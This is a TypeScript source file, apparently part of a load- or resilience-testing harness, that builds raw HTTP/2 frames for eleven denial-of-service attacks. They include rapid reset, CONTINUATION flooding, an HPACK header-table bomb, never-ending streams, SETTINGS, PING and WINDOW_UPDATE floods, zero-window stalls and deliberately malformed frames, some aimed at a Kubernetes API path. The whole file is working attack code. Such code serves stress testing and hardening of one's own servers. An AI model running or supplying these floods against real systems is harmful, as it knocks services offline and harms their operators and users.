/** HTTP/2 turned against its server: what costs the client a frame and the server more. */
import { type Attack, crowd, pause, type Siege } from "../attack.ts";
import {
  flags,
  flood,
  frame,
  headerBlock,
  literal,
  number,
  openHttp2,
  push,
  setting,
  types,
} from "../frames.ts";
import { letGo, unconnected } from "../wire.ts";

const initialWindow = 4;
const tableSize = 1;

const list = "/api/v1/namespaces/kube-system/serviceaccounts";
const get = (stream: number, path = list): Buffer =>
  frame(types.headers, flags.endHeaders | flags.endStream, stream, headerBlock("GET", path));

/** So many frames go at once. */
const burst = 100;
const repeat = (make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: burst }, (_, index) => make(index)));

/** Streams of a connection are odd and never come again. */
const streamOf = (round: number, index: number): number => 2 * (round * burst + index) + 1;

/** Opened and taken back at once: the server has begun what nobody waits for. */
const rapidReset = (round: number): Buffer =>
  repeat((index) => {
    const stream = streamOf(round, index);
    return Buffer.concat([get(stream), frame(types.reset, 0, stream, number(8))]);
  });

/** A header block that never ends. */
const continuations = (round: number): Buffer =>
  Buffer.concat([
    ...(round === 0 ? [frame(types.headers, flags.endStream, 1, headerBlock("GET", "/api"))] : []),
    repeat((index) => frame(types.continuation, 0, 1, literal(`x-${index}`, "y".repeat(100)))),
  ]);

/** One large field in the table, meant again by a byte each. */
const tableBomb = (round: number): Buffer => {
  const large = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from("b"),
    Buffer.from([0x7f, 0x81, 0x1e]),
    Buffer.alloc(4_000, "c"),
  ]);
  const block = Buffer.concat([headerBlock("GET", "/api"), large, Buffer.alloc(10_000, 0xbe)]);
  return frame(types.headers, flags.endHeaders | flags.endStream, 2 * round + 1, block);
};

/** More streams than are allowed, none of them ended. */
const unended = (round: number): Buffer =>
  repeat((index) =>
    frame(types.headers, flags.endHeaders, streamOf(round, index), headerBlock("POST", list)),
  );

const emptyData = (round: number): Buffer =>
  Buffer.concat([
    ...(round === 0 ? [frame(types.headers, flags.endHeaders, 1, headerBlock("POST", list))] : []),
    repeat(() => frame(types.data, 0, 1)),
  ]);

/** Answers are asked for, and no room is given for them. */
async function shutWindow(siege: Siege, drip: boolean): Promise<void> {
  try {
    const socket = await openHttp2(siege, setting(initialWindow, 0));
    const streams = Array.from({ length: 100 }, (_, index) => 2 * index + 1);
    siege.tally.asked(streams.length);
    await push(socket, Buffer.concat(streams.map((stream) => get(stream, "/openapi/v2"))));
    while (!siege.over() && !socket.destroyed) {
      if (drip) {
        const bits = streams.map((stream) => frame(types.windowUpdate, 0, stream, number(1)));
        await push(socket, Buffer.concat(bits));
      }
      await pause(100);
    }
    letGo(siege, socket);
  } catch (error) {
    unconnected(siege, error);
    await pause(50);
  }
}

/** What breaks the protocol: each ends its connection, and nothing else. */
const illegal: readonly Buffer[] = [
  frame(types.windowUpdate, 0, 0, number(0)),
  frame(types.windowUpdate, 0, 0, number(0x7fffffff)),
  frame(types.data, 0, 0, Buffer.from("x")),
  frame(types.headers, flags.endHeaders, 2, headerBlock("GET", "/api")),
  frame(types.headers, flags.endHeaders | flags.padded, 1, Buffer.from([255, 1])),
  frame(
    types.headers,
    flags.endHeaders | flags.endStream,
    1,
    Buffer.from([0xff, 0xff, 0xff, 0xff]),
  ),
  frame(types.headers, flags.endHeaders | flags.endStream, 1, Buffer.from([0x40, 0xff])),
  frame(types.headers, flags.endHeaders | flags.endStream, 1, headerBlock("GET", "no-slash")),
  frame(types.headers, flags.endHeaders | flags.endStream, 1, headerBlock("", "")),
  frame(types.headers, flags.endHeaders | flags.endStream, 1, literal("x", "no method")),
  frame(
    types.headers,
    flags.endHeaders | flags.endStream,
    1,
    headerBlock("GET", "/api", { "X-Upper": "a" }),
  ),
  frame(
    types.headers,
    flags.endHeaders | flags.endStream,
    1,
    headerBlock("GET", "/api", { connection: "close", te: "x" }),
  ),
  frame(
    types.headers,
    flags.endHeaders | flags.endStream,
    1,
    headerBlock("GET", "/api\r\nx: y", { "a\r\nb": "c\u0000d" }),
  ),
  frame(
    types.headers,
    flags.endHeaders | flags.endStream,
    1,
    headerBlock("CONNECT", "/api", { ":protocol": "websocket" }),
  ),
  frame(types.continuation, flags.endHeaders, 1, headerBlock("GET", "/api")),
  frame(types.settings, 0, 0, Buffer.alloc(5)),
  frame(types.settings, 0, 0, setting(initialWindow, 0xffffffff)),
  frame(types.settings, flags.ack, 0, setting(tableSize, 1)),
  frame(types.ping, 0, 0, Buffer.alloc(3)),
  frame(types.reset, 0, 0, number(8)),
  frame(types.goAway, 0, 0, Buffer.alloc(2)),
  frame(5, flags.endHeaders, 1, number(2)),
  frame(99, 0xff, 77, Buffer.alloc(100)),
  frame(types.data, 0, 1, Buffer.alloc(20_000)),
  Buffer.from("ffffff0000000000", "hex"),
];

async function breakProtocol(siege: Siege): Promise<void> {
  const bytes = illegal[Math.floor(siege.random() * illegal.length)] ?? Buffer.alloc(9);
  siege.tally.asked();
  try {
    const socket = await openHttp2(siege);
    socket.write(bytes);
    await pause(100);
    letGo(siege, socket);
  } catch (error) {
    unconnected(siege, error);
  }
}

const flooding = (name: string, connections: number, round: (at: number) => Buffer): Attack => ({
  name,
  run: (siege) => crowd(siege, connections, () => flood(siege, round)),
});

export const http2: readonly Attack[] = [
  flooding("rapid reset", 2, rapidReset),
  flooding("CONTINUATION flood", 2, continuations),
  flooding("header table bomb", 2, tableBomb),
  flooding("streams that do not end", 2, unended),
  flooding("empty DATA flood", 2, emptyData),
  flooding("SETTINGS flood", 2, () =>
    repeat((index) => frame(types.settings, 0, 0, setting(initialWindow, 65_535 + index))),
  ),
  flooding("PING flood", 2, () => repeat(() => frame(types.ping, 0, 0, Buffer.alloc(8)))),
  flooding("WINDOW_UPDATE flood", 2, () =>
    repeat(() => frame(types.windowUpdate, 0, 0, number(1))),
  ),
  {
    name: "windows that stay shut",
    run: (siege) => crowd(siege, 4, () => shutWindow(siege, false)),
  },
  {
    name: "windows opened by bytes",
    run: (siege) => crowd(siege, 4, () => shutWindow(siege, true)),
  },
  {
    name: "frames against the protocol",
    run: (siege) => crowd(siege, 8, () => breakProtocol(siege)),
  },
];
